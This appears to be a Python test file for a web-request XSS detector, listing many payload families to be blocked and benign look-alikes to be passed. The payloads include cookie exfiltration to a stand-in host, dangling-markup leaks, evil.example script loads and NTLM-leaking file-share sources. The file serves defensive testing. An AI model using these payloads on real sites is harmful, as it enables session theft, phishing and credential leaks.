"""XSS families added in sessions 2 to 4: each with variants that must block and look-alikes that must not.

All through the whole detector (triggers included), so a family the prefilter does not
let through fails here too.
"""
from __future__ import annotations

import pytest

from extauthz.decode import Input
from extauthz.detect import REGISTRY, DetectorSet
from extauthz.detect.xss import analyse
from extauthz.detect.xss_variants import unmojibake
from extauthz.finding import Severity
from extauthz.request import Request

DETECTOR = DetectorSet([REGISTRY["xss"]()])


def blocks(value: str) -> bool:
    findings = DETECTOR.scan(Request(), [Input("query", "q", value)])
    return any(f.severity >= Severity.HIGH for f in findings)


FAMILIES = {
    # the classic reflection locator, whatever it names its tag
    "probe": ["'';!--\"<XSS>=&{()}", "'';!--\"<CrossSiteScripting>=&{()}", "'';!--\"<crosssitescripting>=&{()}"],
    # the end of an unquoted handler (`<input onfocus=VALUE>`) calling document.write in its scope
    "handler tail": ["write(1) autofocus>", "write(1) autofocus><input autofocus>", "writeln(document.cookie)>"],
    # navigation and script loading from code
    "navigation": ['window.location.assign("http://evil.example")', "location.replace('//evil.example')",
                   "external.NavigateAndFind('http://evil.example',[],[])"],
    "script element": ["with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.ws'",
                       "document.body.appendChild(document.createElement('script')).src='//x.ws'"],
    # out of a quoted attribute: a handler and the attribute that fires it (code is a placeholder)
    "fired handler": ['" type=image src=null onerror=X', "' autofocus onfocus=x '", '" onerror=a src=x'],
    # the value is an attribute itself, or back-tick quoted (old IE)
    "attribute value": ["onerror=prompt(1)", "``onerror=prompt(1)", "onmouseover=alert(document.domain)"],
    # statement and line breaks ending the page's string or // comment
    "statement": ["foo\\\u00ed; alert(document.cookie);//\u00ed;", "x//\rconfirm(1)//", "[U+2028]confirm(1)",
                  "[U+2028]prompt(1)[U+2028]-->", "a\u2028alert(1)//"],
    # markup spelt out, escaped or mis-decoded
    "spelt markup": ["'<'s'v'g' o'n'l'o'a'd'='a'l'e'r't'('7')' '>'",
                     "< s c r i p t > p r o m p t ( 1 ) < / s c r i p t >",
                     "<script\x0baaa>alert(1)</script\x0baaaa>", "<scr\\\\0ipt>prompt(1)</sc\\\\0ript>",
                     "&'\">\\74\\163\\143\\162\\151\\160\\164\\76\\141\\154\\145\\162\\164\\50\\61\\51\\74\\57"
                     "\\163\\143\\162\\151\\160\\164\\76"],
    # UTF-8 read as Windows-1252 and encoded again, then narrowed or upper-cased
    "mojibake": ["<\u00c5\u00bfcript/async/src=//\u00e2\u2019\u203a\u00e2\u201a\u00a8>",
                 "\u00e2\u02c6\u20ac\u00e3\u00b8\u20ac\u00e3\u00b0\u20acscript\u00e3\u00b8\u20acconfirm(1)"
                 "\u00e3\u00b0\u20ac/script\u00e3\u00b8\u20ac"],
    # out of the attribute and the tag, then markup of its own (no script needed: defacement, phishing)
    "breakout markup": ["'><h1>X</h1>", '"><A HREF="//evil.example">log in</A>', "'\">><marquee><h1>1</h1></marquee>",
                        '-1"><img/src="x.png" alt="a">', '>"<a href="//evil.example">', "x'> <form action=//e.x>",
                        '\\\'"><br><br><b><u>X</u></b>', "</title><h1>X</h1>", "</textarea><img src=x.png>",
                        '"></textarea><b>x</b>'],
    # injected links whose URL is spelled so that a filter and the browser read different hosts
    "evasive link": ['<A HREF="h tt\tp://6&#09;6.000146.0x7.147/">X</A>', '<A HREF="htt\tp://6\t6.000146.0x7.147/">XSS</A>',
                     '<A HREF="http://ha.ckers.org@google">XSS</A>', '<A HREF="http://google:ha.ckers.org">XSS</A>',
                     '<A HREF="http://www.gohttp://www.google.com/ogle.com/">XSS</A>',
                     '<a href="http&#58;//www&#46;evil&#46;example/">x</a>', '<img src="http://0x42.0x0000066.0x7.0x93/x.png">',
                     '<a href="http://bank.example@evil.example/login">log in</a>'],
    # written into the page's script block, then closing it
    "script context": ["$,_=1}}).$=alert</script>", 'src="http://evil.example/x.js"></script>',
                       "x=document.cookie;new Image().src='//e.x/?'+x</script>", "src=//e.x/a.js></script>"],
    # an injected login form; a Rails UJS link that forges a write on click
    "injected form": ['<form action="//evil.example/"><input name=u><input type="password" name=p></form>',
                      '<!doctype html><form><label>PIN</label><input name="secret" type="password"></form>',
                      '<a data-remote=true data-method=delete href=/delete_account>CLICK</a>'],
    # session 4
    # a script scheme whose colon a filter removed, followed by code reaching a sink
    "scheme without colon": ['<a href="javascript#alert(1);">', "<a href='javascript#document.cookie=true;'>",
                             '-1<a href="javascript#document.write(1)">x</a>', "<iframe src=vbscript#msgbox(1)>"],
    # attribute values quoted with back ticks (old IE only): past filters that look for quotes
    "back-tick quoted link": ["<a href=``calc``>", "<a href=``xss.cx``>", "<img src=``x.png``>"],
    # the unprefixed binding property probes try beside -moz-binding
    "css binding": ['<div style="binding: url([link to code]);">', "<p style='binding:url(x.xml#xss)'>x</p>",
                    '-1<div style="binding: url(//evil.example/a.xml);">'],
    # an attribute whose value is a call that pops up or runs code (evaluated by page script, or a probe)
    "attribute call": ["<body scroll=alert(1)>", "<video poster=prompt(1)//></video>",
                       '<p class="comment" title="*/prompt(1)\'"></p>', '<div data-x="confirm(document.domain)">'],
    # one value closing every raw-text element it might sit in, back to back
    "context closers": ["</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</style></title></textarea></script>",
                        "</noscript></title></textarea>"],
    # dangling markup: a fetched URL attribute left open, so the page's text goes to that host;
    # a script URL cut short by a length limit
    "left open": ['<img src="http://evil.example/log?', "'><img src='//evil.example/?", '"<marquee><img src="http://x.example/a.png',
                  "<IMG SRC='javasc", '<a href="javascr', "<iframe src='vbscri", "x=x:url(javascript",
                  'background: url("javascr'],
    # a script element whose angle brackets a filter or layer removed
    "bracketless script": ["scriptalert(crosssitescripting)/script", "-1scriptdocument.cookie=true;/script",
                           '>"scriptdocument.cookie=true;/script', "'scriptprompt(1)/script"],
    # out of a quoted attribute, a handler-shaped name the event list does not know yet, calling a sink
    "unknown handler": ['" onpagereveal="alert(1)', "' onfoobar='alert(1)", '" onxyz=confirm(document.domain) x="',
                        'x" onmosemove=confirm(1)>'],
    # a resource fetched from a Windows file share: NTLM credentials sent without a click
    "file share": ['<img src="\\\\evil.example\\share\\x.png">', "<img src=\\\\?\\UNC\\\\\\></style>",
                   '<img src="file://evil.example/x.png">', '<body background="\\\\1.2.3.4\\x">'],
    # a statement frame: close the string (and brackets), run a statement, comment out the rest of the line
    "statement frame": ['";a.b=c;//', '";a[b]=c;//', "');x=1;//", "'};location=name;//", '";a.b=c;// rest',
                        "x';y=z;//"],
    # the value ends the page's /* comment and runs code
    "comment breakout": ["*/alert(1)/*", "*/prompt(document.domain)//", "x*/confirm(1)/*"],
    # a script scheme with reference-shaped tokens between its letters, in any case
    "hidden scheme": ["ja&tab;vascript: ", "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
                      "java&TAB;script:x", "jav&NewLine;ascript&colon;"],
    # session 5
    # markup escaped once (&lt;...&gt;) read by a layer that decodes it again, its own references kept
    "escaped markup": ['&lt;A HREF=\\"http&#58;//66&#46;102&#46;7&#46;147/\\"&gt;XSS&lt;/A&gt;',
                       '&lt;IMG SRC="http&#58;//www&#46;evil&#46;example/x.php"&gt;',
                       '&#60;a href="h tt\tp://evil.example/"&#62;x&#60;/a&#62;', '&LT;img src=x onerror=alert(1)&GT;'],
    # an element named after a document property replaces it for the page's scripts
    "dom clobbering": ["<form name=location >", '<img name="getElementById" src=x>', "<embed name=cookie>",
                       '<form name="currentScript"><input name=src value=//evil.example></form>'],
    # a catastrophic regex in an input's pattern and the value that makes it backtrack
    "regex dos": ["<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>",
                  '<input pattern="(x+x+)+y" value="xxxxxxxxxxxxxxxxxxxxxxxx">'],
    # a runner named in a template substitution, its call in the payload's other half
    "template substitution": ["a=`${alert/*}`;", "`${prompt/**/", "x=`${eval/*"],
    # a dangerous name spelt as a number in a high radix (read back with toString(36))
    "number-spelt name": ['parseInt("prompt",36);', "top[parseInt('alert',36).toString(36)](1)",
                          "x=parseInt('eval',36)"],
    # XML data islands whose CDATA sections lost their ">" between the pieces of a script URL
    "cdata join": ['<xml id=i><x><c><![cdata[<img id=xss src="javas]]<![cdata[cript:alert(\'xss\');">]]</c><x></xml>'],
    # <wbr> inside references (old IE dropped it) spelling a script URL
    "wbr filler": ["<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&<WBR>#x63&#x72&#x69&#x70&#x74&#x3A&<WBR>#x61&#x6C&#x65&#x72"
                   "&#x74&#x28&<WBR>#x27&#x58&#x53&#x53&#x27&#x29>"],
    # the rest of a string the page opened, turned into code by string methods
    "string continued": ["~~)1(trela+tpircsavaj'.split('').reverse().join('')",
                         "lave'.split('').reverse().join('')"],
    # a fuzzer's placeholder for the blank before an injected handler
    "placeholder before handler": ["[\x0B]onmosemove=confirm('x')>", "[a]onfoo=alert(1)"],
    # a page forced into an old engine's document mode (legacy vectors run again)
    "document mode": ['<meta http-equiv="X-UA-Compatible" content="IE=5">',
                      '<meta http-equiv="X-UA-Compatible" content="IE=EmulateIE7"><div>',
                      "<meta http-equiv=x-ua-compatible content=ie=8>"],
    # UTF-8 percent escapes spaced out ("% E3% B0% 80"), then narrowed by a legacy charset
    "spaced percent escapes": ["% E2% 88% 80% E3% B8% 80% E3% B0% 80script% E3% B8% 80confirm% 281% 29% E3% B0% 80/script",
                               "% 3Cscript% 3Ealert% 281% 29% 3C/script% 3E"],
    # out of the attribute and the tag, an unknown element with an attribute of its own (styled all the same)
    "breakout unknown element": ['"><x style="background:url(\'x\');color:red">XXX</x>', "'><foo title=\"x\" id=a>b</foo>"],
    # references to references in a URL attribute, for a layer that decodes twice
    "twice-encoded references": ['<a href="&#38;#106;&#38;#97;&#38;#118;&#38;#97;&#38;#115;&#38;#99;&#38;#114;&#38;#105;'
                                 '&#38;#112;&#38;#116;&#38;#58;alert(1)">x</a>'],
    # mojibake the decode layer's NFKC changed further (¸ became a blank and a combining cedilla)
    "normalised mojibake": ["\u00e2\u02c6\u20ac\u00e3 \u0327\u20ac\u00e3\u00b0\u20acscript\u00e3 \u0327\u20acconfirm(1)"
                            "\u00e3\u00b0\u20ac/script\u00e3 \u0327\u20ac"],
}

LOOK_ALIKES = [
    "'hello'; \"world\" <b>bold</b>", "write(1) more text", "write the letter", "please write(me) soon",
    "location.replace is a method", "str.replace('a', 'b')", "createElement('div')",
    'say "hi" onerror', "' onfocus=x", "online=yes", "one=1 two=2", "only `quoted` text here",
    "x < y and y > z", "a < b", "1 < 2 < 3", "i <3 you", "<'quoted'>", "it's 5 o'clock; alert me at 6",
    "line one\nline two", "Note; confirm the order", "café naïve résumé", "\u00c3\u00a9t\u00c3\u00a9 \u00c3\u00a0 Paris",
    "0 || 'default'", "a ? 'yes' : 'no'", "x && 'y'", "\\74 is an octal escape",
    'say "hi"><b>x</b>', '"quoted" <b>x</b>', "'><3", '"><x>', '5">', "it's > 'that' <b>", '"a" > "b"',
    "'>' is greater-than", 'He said "no"> <i>maybe</i>',
    '<a href="https://example.com/a?b=c&amp;d=e">link</a>', '<a href="http://example.com:8080/">x</a>',
    '<a href="https://web.archive.org/web/2020/https://example.com/">archived</a>',
    '<a href="https://medium.com/@user/post">post</a>', '<img src="https://cdn.example/x.png?a=1&#38;b=2">',
    '<a href="mailto:someone@example.com">mail</a>', '<a href="http://66.102.7.147/">by IP</a>',
    "see the </script> tag", "Use alert() inside </script>", 'type="text/javascript"></script>',
    "close it with ); </script>", "</b><h1>x</h1>", "text </title><h1>x</h1>", "</title>",
    "</div><div class=a>t</div>", 'use <input type="password"> inside a <form> element', "<input type=password>",
    "<form><input name=q></form>", '<a data-method="get" href="/x">x</a>',
    # session 4
    '<a href="https://example.com/#alert">x</a>', '<a href="javascript-tutorial.html">js</a>',
    '<a href="/docs/javascript#intro">JavaScript intro</a>', '<a title="alert(1)">x</a>', '<img alt="prompt(1)">',
    '<input value="confirm(1)">', '<span title="call alert(1) to test">x</span>', '<div style="color:red">x</div>',
    '<div style="font-family: Binding, serif">x</div>', "use </script> and </style> and </title> to close",
    "</title></textarea>", "</script>", "Java&amp;Script: the good parts", "AT&amp;T: javascript jobs",
    "at&t script: hello", '<a href="https://example.com/a`b">x</a>',
    "Here's a video: <a href=\"https://www.youtube.com/watch?v=", '<img src="x.png', "<img src='java.png",
    '<img src="https://cdn.example/a.png">', "<a href='jav", "javascript/script", "/js/script/script.js",
    "see script and /script tags", "script (alert) /script", "the script is in /script/run.sh",
    "a */ b", "/* note */ call alert(1) later", "*/ see alert (1) /*", "5 */ 2 = 2.5",
    "background:url(javascript-logo.png)", "background:url(jav", "use url(javascript",
    "' online='yes'", '" onion="sliced"', "' onboarding='done'", '"hello"; he said // ok', "it's; fine // really",
    "';//", "'; a b c //", 'He wrote "hi"; then x=1 // done', '"; see the docs at http://x.example/a=1 //',
    '<a href="\\\\fileserver\\docs\\a.pdf">doc</a>', '<img src="//cdn.example/x.png">', "<img src='./a\\b.png'>",
    # session 5: call text inside elements that show text; players sites hand out embed code for
    "<b>alert(1)</b>", "<code>alert(1)</code>", "<pre>alert(document.cookie)</pre>", "<i>prompt(1)</i> is a call",
    "<p>eval(x) is evil</p>",
    '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" frameborder="0" allowfullscreen>'
    '</iframe>', '<iframe src="https://player.vimeo.com/video/76979871" width="640"></iframe>',
    '<iframe src="//www.youtube-nocookie.com/embed/abc?rel=0"></iframe>',
    # escaped markup that is plain, forms with ordinary field names, harmless patterns
    "&lt;b&gt;bold&lt;/b&gt; and &lt;a href=\"https://example.com/\"&gt;link&lt;/a&gt;", "AT&amp;T &lt;3 you",
    '<form name="contact" action="/send"><input name="location"></form>', '<input name="title">',
    '<img name="logo" src="a.png">', '<input pattern="[0-9]{5}" value="12345">', '<input pattern="(\\d{3})-(\\d{4})">',
    '<input pattern="([a-z]+\\.)+[a-z]{2,}" value="example.com">', "parseInt('ff', 16)", "parseInt(x, 36)",
    "`${name} says hi`", "`${total/2}`", '<meta http-equiv="X-UA-Compatible" content="IE=edge">',
    '<meta http-equiv="X-UA-Compatible" content="IE=11">', "[x] online=yes", "it's a 'string'.split('')",
    "don't'.reverse() that", "<wbr>long<wbr>word", '"><x>', 'say "hi"><foo bar="x">',
    '<a href="https://example.com/?a=1&#38;b=2">x</a>', '<a href="&#38;#104;ttps://example.com/">x</a>', "10% 20% 30% 40% 50% off", "% 3Cb% 3Ebold% 3C/b% 3E",
]


@pytest.mark.parametrize("value", [v for vs in FAMILIES.values() for v in vs])
def test_family_blocks(value: str) -> None:
    assert blocks(value), value


@pytest.mark.parametrize("value", LOOK_ALIKES)
def test_look_alike_passes(value: str) -> None:
    assert not blocks(value), analyse(value)


@pytest.mark.parametrize("value", [
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', '<iframe src="http://evil.example/"></iframe>',
    '<iframe src="https://youtube.com/embed/../../redirect?q=//evil.example"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" name="target"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
    "<b>x</b><script>alert(1)</script>", '<b onmouseover="alert(1)">x</b>', "<b>';alert(1)//</b>",
])
def test_only_plain_player_embeds_and_text_markup_pass(value: str) -> None:
    assert blocks(value), value


def test_mojibake_repair_only_changes_double_encodings() -> None:
    assert unmojibake("\u00c5\u00bfcript") == "\u017fcript"
    assert unmojibake("plain ascii") == ""
    assert unmojibake("caf\u00e9") == ""  # é alone is not UTF-8 read as cp1252
    assert unmojibake("\u4e2d\u6587") == ""  # not encodable as cp1252
